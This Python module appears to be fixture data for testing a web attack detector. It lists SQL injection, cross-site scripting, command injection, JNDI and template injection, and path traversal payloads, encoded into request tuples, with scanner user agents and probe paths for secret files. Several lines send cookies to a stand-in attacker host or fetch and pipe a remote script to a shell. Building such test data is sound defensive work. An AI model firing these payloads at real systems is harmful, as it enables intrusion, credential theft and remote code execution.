"""Requests of attackers, by what they are: path, query, browser's name. Encoded as tools send them."""

from __future__ import annotations

from urllib.parse import quote, quote_plus

SQL = [
    "1' OR '1'='1",
    "1' or 1=1--",
    "' OR 'x'='x",
    "admin'--",
    "admin' #",
    "1 OR 1=1",
    "1) or (1=1",
    "-1 UNION SELECT 1,2,3",
    "1' UNION SELECT username,password FROM users--",
    "1' UNION ALL SELECT NULL,NULL#",
    "x'; DROP TABLE users;--",
    "1; DELETE FROM orders",
    "1' AND SLEEP(5)--",
    "1 AND SLEEP(5)",
    "1';WAITFOR DELAY '0:0:5'--",
    "1' AND pg_sleep(10)--",
    "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
    "1 AND (SELECT 1 FROM dual)=1",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "1' ORDER BY 10--",
    "' oR '1' LiKe '1",
    "1' || '1'='1",
    '1" OR "1"="1',
    "1' AND BENCHMARK(5000000,MD5(1))--",
    "x') OR ('a'='a",
]
SCRIPT = [
    "<script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=prompt(1)>',
    "<svg/onload=alert(1)>",
    "<svg onload=confirm(1)>",
    "javascript:alert(1)",
    "<body onload=alert('xss')>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    "<script src=//evil.example/x.js></script>",
    "<iframe src=x onload=eval(name)>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<details open ontoggle=alert(1)>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
]
COMMAND = [
    ";cat /etc/passwd",
    "| id",
    "127.0.0.1; whoami",
    "127.0.0.1 && cat /etc/shadow",
    "`whoami`",
    "$(whoami)",
    "x|ls -la",
    ";wget http://evil.example/x.sh",
    "a; curl http://evil.example/x | sh -c x",
    "$(curl http://evil.example)",
    "1;bash -c 'id'",
    "8.8.8.8 | uname -a",
    "system('id');",
    "; sleep 10",
    "x && ping -c 5 127.0.0.1",
]
TEMPLATE = [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{config.items()}}",
    "${jndi:rmi://evil.example:1099/x}",
    "#{7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#_memberAccess=@x)}",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "../../../proc/self/environ",
    "....//....//....//etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/passwd",
    "../../../../../../boot.ini",
    "c:\\windows\\system32\\drivers\\etc\\hosts",
    "../../WEB-INF/web.xml",
    "../../../etc/passwd\0.png",
    "data://text/plain;base64,PD9waHA=",
    "expect://id",
]
Request = tuple[str, str, str]
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"


def _in_query(texts: list[str]) -> list[Request]:
    once = [("/api/items/", f"id={quote_plus(text)}&page=1", BROWSER) for text in texts]
    twice = [("/download", f"file={quote(quote(text, safe=''), safe='')}", BROWSER) for text in texts]
    return once + twice


ATTACKS: dict[str, list[Request]] = {
    "sql": _in_query(SQL),
    "script": _in_query(SCRIPT),
    "command": _in_query(COMMAND),
    "template": [*_in_query(TEMPLATE), ("/", "", "${jndi:ldap://evil.example/a}")],
    "traversal": [
        *_in_query(TRAVERSAL),
        ("/static/../../../etc/passwd", "", BROWSER),
        ("/cgi/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "", BROWSER),
        ("/files/..%2f..%2f..%2fetc/passwd", "", BROWSER),
        ("/files/..%252f..%252fetc%252fpasswd", "", BROWSER),
        ("/app/..;/manager/html", "", BROWSER),
    ],
    "tool": [
        ("/", "", agent)
        for agent in (
            "sqlmap/1.8.3#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.1.6)",
            "gobuster/3.6",
            "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
            "masscan/1.3",
            "Fuzz Faster U Fool v2.1.0-dev",
            "WPScan v3.8",
        )
    ],
}
PROBES = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/xmlrpc.php",
    "/phpmyadmin/",
    "/.aws/credentials",
    "/actuator/env",
    "/server-status",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/test.cgi",
    "/.env.production",
    "/backup.sql",
    "/wp-admin/setup-config.php",
    "/solr/admin/info/system",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/.svn/entries",
    "/config.php.bak",
    "/phpinfo.php",
    "/owa/auth/logon.aspx",
]
